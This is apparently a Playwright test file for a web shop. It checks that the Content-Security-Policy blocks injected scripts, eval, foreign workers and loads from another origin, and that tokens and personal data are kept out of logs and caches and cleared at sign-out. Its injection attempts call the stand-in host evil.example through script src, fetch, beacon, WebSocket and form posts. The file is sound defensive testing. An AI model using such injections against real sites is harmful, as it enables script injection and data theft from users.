import type { Page } from '@playwright/test';

import { DEMO_ACCOUNTS } from '../../../src/demo/seed';
import { fillCreateForm, openAsAdmin, PATHS } from '../admin/admin';
import { cameraPhoto } from '../admin/photos';
import { expect, test } from '../base';
import { closeThankYou, prepareCheckout, pressCheckout } from '../checkout/checkoutSteps';
import { ADDRESS, answer, bagProduct, dialog, expectSignedIn, logOut, PASSWORD } from '../shopper';

test.describe('the Content-Security-Policy', () => {
  /** Tries common script injections inside the page. Returns the outcome of each. */
  const attemptInjections = (page: Page) =>
    page.evaluate(async () => {
      // The policy allows `eval` while Playwright's own script runs, so this leaves it.
      await new Promise((resolve) => setTimeout(resolve));
      const outcomeOf = (attempt: () => unknown) => {
        try {
          attempt();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      const script = document.createElement('script');
      const runInlineScript = (text: string) => {
        const inline = document.createElement('script');
        inline.append(text);
        document.head.append(inline);
      };
      runInlineScript('window.wasRun = "inline"');
      return {
        html: outcomeOf(() => (document.createElement('div').innerHTML = '<img>')),
        foreignScript: outcomeOf(() => (script.src = 'https://evil.example/x.js')),
        dataScript: outcomeOf(() => (script.src = 'data:text/javascript,window.wasRun=1')),
        scriptText: outcomeOf(() => (script.textContent = 'window.wasRun = "text"')),
        handler: outcomeOf(() => document.body.setAttribute('onclick', 'window.wasRun = "click"')),
        timer: outcomeOf(() => Reflect.apply(setTimeout, window, ['window.wasRun = "timer"'])),
        // oxlint-disable-next-line no-eval -- the policy has to block it
        evaluation: outcomeOf(() => Reflect.apply(eval, window, ['window.wasRun = "eval"'])),
        construction: outcomeOf(() => Reflect.construct(Function, ['window.wasRun = "Function"'])),
        worker: outcomeOf(() => new Worker('https://evil.example/w.js')),
        ownScript: outcomeOf(() => (script.src = '/assets/own.js')),
        data: outcomeOf(() => (script.textContent = '{"@context":"https://schema.org"}')),
        ran: Reflect.get(window, 'wasRun') ?? 'nothing',
      };
    });

  test('blocks injected scripts, markup, handlers and workers', async ({ page, expectError }) => {
    expectError(/requires 'Trusted(?:HTML|Script|ScriptURL)' assignment/, 11);
    await page.goto('/');
    await expect(page.getByRole('article').first()).toBeVisible();
    expect(await attemptInjections(page)).toEqual({
      html: 'TypeError',
      foreignScript: 'TypeError',
      dataScript: 'TypeError',
      scriptText: 'TypeError',
      handler: 'TypeError',
      timer: 'TypeError',
      worker: 'TypeError',
      evaluation: 'EvalError',
      construction: 'EvalError',
      ownScript: 'done',
      data: 'done',
      ran: 'nothing',
    });
  });

  /**
   * Tries each way to load something from another origin. Returns the enforced directive that blocked
   * each attempt.
   */
  const attemptForeignLoads = (page: Page) =>
    page.evaluate(async (origin) => {
      const append = (tag: string, attributes: object) => {
        const element = Object.assign(document.createElement(tag), attributes);
        document.body.append(element);
        return element;
      };
      const attempts: Record<string, () => unknown> = {
        fetch: () => fetch(`${origin}/fetch`, { mode: 'no-cors' }),
        beacon: () => navigator.sendBeacon(`${origin}/beacon`, 'x'),
        socket: () => new WebSocket(`${origin.replace('http', 'ws')}/socket`),
        module: () => import(`${origin}/module.js`),
        frame: () => append('iframe', { src: `${origin}/frame` }),
        style: () => append('link', { rel: 'stylesheet', href: `${origin}/style.css` }),
        media: () => append('video', { src: `${origin}/video.mp4` }),
        object: () => append('object', { data: `${origin}/object` }),
        base: () => append('base', { href: `${origin}/base/` }),
        form: () => {
          const form = append('form', { action: `${origin}/form`, method: 'post' });
          if (form instanceof HTMLFormElement) form.submit();
        },
      };
      const directiveAgainst = async (attempt: () => unknown) => {
        const { promise, resolve } = Promise.withResolvers<string>();
        const onViolation = ({ effectiveDirective, disposition }: SecurityPolicyViolationEvent) =>
          resolve(disposition === 'enforce' ? effectiveDirective : 'none');
        document.addEventListener('securitypolicyviolation', onViolation, { once: true });
        setTimeout(() => resolve('none'), 3000);
        await Promise.resolve()
          .then(attempt)
          .catch(() => undefined);
        return promise;
      };
      const directives: Record<string, string> = {};
      for (const [what, attempt] of Object.entries(attempts))
        directives[what] = await directiveAgainst(attempt);
      return directives;
    }, 'https://evil.example');

  test('blocks everything that another origin could load or receive', async ({
    page,
    expectError,
  }) => {
    expectError(/^Forbidden by the policy: .*evil\.example/, 10);
    expectError(/requires 'TrustedScriptURL'|violates the .*Content Security Policy/);

    await page.goto('/');
    await expect(page.getByRole('article').first()).toBeVisible();
    expect(await attemptForeignLoads(page)).toEqual({
      fetch: 'connect-src',
      beacon: 'connect-src',
      socket: 'connect-src',
      module: 'script-src-elem',
      frame: 'frame-src',
      style: 'style-src-elem',
      media: 'media-src',
      base: 'base-uri',
      form: 'form-action',
      // Trusted Types stop an object before `object-src` does.
      object: 'require-trusted-types-for',
    });
  });

  test('blocks pictures over http', async ({ page, onHosts, expectError }) => {
    test.skip(onHosts, 'these hosts use http, so their pictures do too');
    expectError(/^Forbidden by the policy: img-src http:\/\/evil\.example/, 1);
    expectError(/http:\/\/evil\.example\/picture\.png' violates the .*Content Security Policy/, 1);
    await page.goto('/');
    const directive = await page.evaluate(
      () =>
        new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) =>
            resolve(event.effectiveDirective),
          );
          new Image().src = 'http://evil.example/picture.png';
        }),
    );
    expect(directive).toBe('img-src');
  });
});

/** The database in which Firebase stores the signed-in user and their tokens. */
const FIREBASE_DB = 'firebaseLocalStorageDb';

/**
 * Reads the browser's storage as texts: `cached` from CacheStorage, `firebase` from its database, and
 * `own` from everything else. `cachedUrls` are the URLs in `cached`.
 */
function readBrowserStorage(page: Page) {
  return page.evaluate(async (firebaseDb) => {
    const resultOf = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(new Error('unread'));
      });
    const readDatabase = async (name: string) => {
      const db = await resultOf(indexedDB.open(name));
      const stored: unknown[] = [name];
      for (const storeName of db.objectStoreNames) {
        const store = db.transaction(storeName).objectStore(storeName);
        stored.push(storeName, await resultOf(store.getAllKeys()));
        stored.push(await resultOf(db.transaction(storeName).objectStore(storeName).getAll()));
      }
      db.close();
      return stored;
    };

    const own: unknown[] = [
      Object.entries(localStorage),
      Object.entries(sessionStorage),
      document.cookie,
    ];
    const cachedUrls: string[] = [];
    const cached: unknown[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const { url } of await cache.keys()) {
        cachedUrls.push(url);
        cached.push(name, url, await (await cache.match(url))?.text());
      }
    }
    const databases = (await indexedDB.databases()).map(({ name = '' }) => name);
    for (const name of databases) if (name !== firebaseDb) own.push(await readDatabase(name));
    const firebase = databases.includes(firebaseDb) ? await readDatabase(firebaseDb) : [];
    return {
      own: JSON.stringify(own),
      cached: JSON.stringify(cached),
      firebase: JSON.stringify(firebase),
      cachedUrls,
    };
  }, FIREBASE_DB);
}

/** Calls that carry the uid in their query, as the hosts want it (spec §7). */
const CALL_WITH_UID = /^http:\/\/127\.0\.0\.1:\d+\/(?:profile|mylist|myyOrder)\?uid=/;

test.describe('personal data (spec §14)', () => {
  test.skip(({ onHosts }) => !onHosts, 'the demo’s hosts store their data in the browser');

  test('is in no log, URL or cache, and is deleted from the browser at sign-out', async ({
    page,
    t,
    context,
    expectError,
  }, testInfo) => {
    expectError(/ERR_INTERNET_DISCONNECTED /);
    expectError(/^Error fetching (?:orders|wishlist): The host could not be reached/);
    const logged: string[] = [];
    const urls: string[] = [];
    context.on('console', (message) => logged.push(message.text()));
    context.on('request', (request) => urls.push(decodeURIComponent(request.url())));
    page.on('framenavigated', (frame) => urls.push(decodeURIComponent(frame.url())));

    await page.goto('/');
    await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
    await prepareCheckout(page, t, testInfo, 'prada-sandals-4');
    await pressCheckout(page, t);
    await answer(page, t('checkout.confirm'), t('action.ok'));
    await closeThankYou(page, t);
    await page.goto('/order');
    const order = page.getByRole('main').getByRole('link', { name: /^ZN\d+$/ });
    const orderNumber = await order.innerText();
    // A failed call writes a log line, which must not hold personal data.
    await context.setOffline(true);
    await page.goto(`/order/${orderNumber}`);
    await expect(page.getByRole('alert')).toBeVisible();
    await context.setOffline(false);
    // An unfinished checkout stores data that the sign-out must delete.
    await bagProduct(page, t, 'prada-sandals-3');
    await page.goto('/cart');
    await expectSignedIn(page, t);
    await page.getByRole('button', { name: t('cart.selectAddress') }).click();
    const choice = dialog(page, t('cart.selectAddress'));
    await choice.getByRole('radio').first().check();
    await choice.getByRole('button', { name: t('action.ok') }).click();
    await expect(page.getByRole('main').getByText(ADDRESS.recipient)).toBeVisible();
    await page.goto('/account');
    const email = await page.getByText(/@shopper\.example/).innerText();
    const signedIn = await readBrowserStorage(page);
    const token = /"accessToken":"([^"]+)"/.exec(signedIn.firebase)?.[1];
    const uid = /"uid":"([^"]+)"/.exec(signedIn.firebase)?.[1];
    expect(signedIn.firebase).toContain(email);
    expect([token, uid]).not.toContain(undefined);
    const visitedProducts = (cachedUrls: string[]) =>
      cachedUrls.filter((url) => url.includes('productId=prada-sandals-'));
    expect(visitedProducts(signedIn.cachedUrls)).not.toEqual([]);

    const secrets = [token!, uid!, PASSWORD, email, ...Object.values(ADDRESS)];
    const secretsIn = (texts: string[]) =>
      secrets.filter((secret) => texts.some((text) => text.includes(secret)));
    expect(logged.join('\n')).toMatch(/Error fetching orders:/);
    expect(secretsIn(logged), 'in the console').toEqual([]);
    expect(logged.join('\n')).not.toContain(orderNumber);
    expect(urls.filter((url) => CALL_WITH_UID.test(url))).not.toEqual([]);
    expect(secretsIn(urls.filter((url) => !CALL_WITH_UID.test(url))), 'in URLs').toEqual([]);
    for (const secret of [token!, uid!, PASSWORD, email])
      expect(signedIn.own + signedIn.cached, 'while signed in').not.toContain(secret);

    await logOut(page, t);
    await expect
      .poll(async () => visitedProducts((await readBrowserStorage(page)).cachedUrls))
      .toEqual([]);
    const { own, cached, firebase, cachedUrls } = await readBrowserStorage(page);
    // The worker's own files stay.
    expect(cachedUrls).not.toEqual([]);
    expect(secretsIn([own, cached, firebase]), 'after sign-out').toEqual([]);
    expect(own + cached).not.toContain(orderNumber);
  });

  test('of an admin is deleted at sign-out, and an unfinished product stays without it', async ({
    page,
    t,
    tAdmin,
  }) => {
    await openAsAdmin(page, t, PATHS.create);
    await fillCreateForm(page, tAdmin, 'Unfinished coat');
    await page
      .getByLabel(tAdmin('photo.images'))
      .setInputFiles(await cameraPhoto(page, { name: 'Ms Ho.jpg', width: 400, height: 300 }));
    await expect(
      page.getByRole('button', { name: tAdmin('photo.remove', { number: 1 }) }),
    ).toBeVisible();
    const uid = /"uid":"([^"]+)"/.exec((await readBrowserStorage(page)).firebase)?.[1];
    expect(uid).toBeTruthy();
    // The browser reduces the photo before it stores it.
    for (const stored of ['Unfinished coat', 'image/webp'])
      await expect.poll(async () => (await readBrowserStorage(page)).own).toContain(stored);

    await logOut(page, t);
    const { own, cached, firebase } = await readBrowserStorage(page);
    expect(own).toContain('Unfinished coat');
    // The name of a file may name a person.
    expect(own).not.toContain('Ms Ho');
    for (const secret of [uid!, DEMO_ACCOUNTS.admin.email, DEMO_ACCOUNTS.admin.password])
      expect(own + cached + firebase).not.toContain(secret);
  });
});
